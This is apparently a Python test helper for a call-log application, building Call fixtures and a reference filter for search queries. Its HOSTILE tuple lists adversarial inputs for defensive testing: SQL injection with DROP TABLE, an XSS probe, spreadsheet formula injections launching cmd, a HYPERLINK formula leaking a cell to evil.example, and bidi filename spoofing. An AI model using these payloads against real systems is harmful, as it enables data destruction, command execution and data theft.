"""Calls to look for, and the same filters in plain Python."""

from __future__ import annotations

import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import replace

from sqlalchemy import update
from sqlalchemy.ext.asyncio import AsyncEngine

from waybell.calls.queries import OLDEST_FIRST, CallFilter
from waybell.calls.search_index import index_some
from waybell.calls.values import Call, Direction, Party, Status
from waybell.calls.writer import SqlJournalStore
from waybell.store.tables import calls

AT = 1_795_315_974_000_000
HOSTILE = (
    "'; DROP TABLE calls; --",
    "<script>alert(1)</script> & <b>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "Ива\u200fнов \u202egnp.exe\u202c",
    "😀 Наталья 👩‍👩‍👧",
    "李小龍 محمد שלום",
    "%s %(id)s :id {x} \\ ' \" `",
    "\x1b[31mred\x1b]0;title\x07 \x9b2J",
    "line\r\nfeed\x00nul",
    "\ufeffbom\u0000",
    "\ud800broken",
    "é e\u0301 ﬁ ß ё Ё İ ı",
)
FIRST = Call(
    id="pbx1-1795315974.0",
    direction=Direction.INBOUND,
    status=Status.ANSWERED,
    started_at=AT,
    answered_at=None,
    ended_at=None,
    caller=Party(),
    dialed=None,
    answered_by=None,
    parcel=None,
    courier=None,
    client=None,
    manager=None,
    wait_seconds=0.0,
    ring_seconds=0.0,
    talk_seconds=0.0,
    legs=(),
    route=(),
)


def call(number: int, **changes: object) -> Call:
    """Call ``number``, a second after the one before unless ``started_at`` says otherwise."""
    return replace(FIRST, **{"id": f"pbx1-{number}.0", "started_at": AT + number * 1_000_000, **changes})  # type: ignore[arg-type]


async def keep(engine: AsyncEngine, found: Sequence[Call], ratings: dict[str, int] | None = None) -> None:
    """Writes them as the journal does; not indexed yet."""
    await SqlJournalStore(engine, "pbx1").save(found, [], None)
    async with engine.begin() as connection:
        for id_, rating in (ratings or {}).items():
            await connection.execute(update(calls).where(calls.c.id == id_).values(rating=rating, facets=None))


async def index(engine: AsyncEngine) -> None:
    """Indexes all there is."""
    while await index_some(engine, 7):
        pass


def filtered(found: Iterable[Call], chosen: CallFilter, order: str, ratings: dict[str, int]) -> list[Call]:
    """What ``chosen`` describes, in ``order``: each filter as it is documented, call by call."""
    kept = [each for each in found if _has(each, chosen, ratings)]
    return sorted(kept, key=lambda each: (each.started_at, each.id), reverse=order != OLDEST_FIRST)


def _has(each: Call, chosen: CallFilter, ratings: dict[str, int]) -> bool:
    numbers = {each.caller.number, each.dialed, each.answered_by and each.answered_by.number} - {None, ""}
    digits, exact = chosen.number.removeprefix("="), chosen.number.startswith("=") or len(chosen.number) < 3
    names = [each.caller.name or "", (each.answered_by and each.answered_by.name) or ""]
    return all(
        (
            chosen.since is None or each.started_at >= chosen.since,
            chosen.until is None or each.started_at < chosen.until,
            not chosen.status or each.status == chosen.status,
            not chosen.direction or each.direction == chosen.direction,
            not chosen.kind or each.caller.kind == chosen.kind,
            not chosen.courier or each.courier == chosen.courier,
            not chosen.client or each.client == chosen.client,
            not chosen.parcel or each.parcel == chosen.parcel,
            not chosen.manager or chosen.manager in (each.manager or "").split(","),
            chosen.rating is None or ratings.get(each.id) == chosen.rating,
            not digits or (digits in numbers if exact else any(digits in str(number) for number in numbers)),
            all(any(word in _folded(name) for name in names) for word in _folded(chosen.search).split()),
        )
    )


def _folded(text: str) -> str:
    text = unicodedata.normalize("NFKC", text).casefold().replace("ё", "е")
    return "".join(letter for letter in text if unicodedata.category(letter) != "Cf")
